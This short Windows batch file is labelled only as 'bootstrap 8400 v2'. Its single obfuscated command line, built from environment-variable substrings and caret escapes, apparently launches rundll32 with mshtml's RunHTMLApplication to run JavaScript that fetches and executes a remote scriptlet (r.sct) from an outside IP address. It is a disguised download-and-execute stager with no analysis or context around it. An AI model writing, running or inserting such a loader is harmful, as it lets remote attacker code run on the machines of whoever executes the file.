REM bootstrap 8400 v2
%programdata:~4,1%%PUBLIC:~-5,1%%COMSPEC:~5,1%%windir:~6,1%%PUBLIC:~12,1%%public:~12,1%^32.%PUBLIC:~5,1%%COMSPEC:~25,1%%comspec:~24,1% j^a^vas^cript:"\..\mshtml,RunHTMLApplication ";d^ocum^ent.w^ri^te();^Ge^t^O^b^je^ct("script:http://192.0.2.150/r.sct")
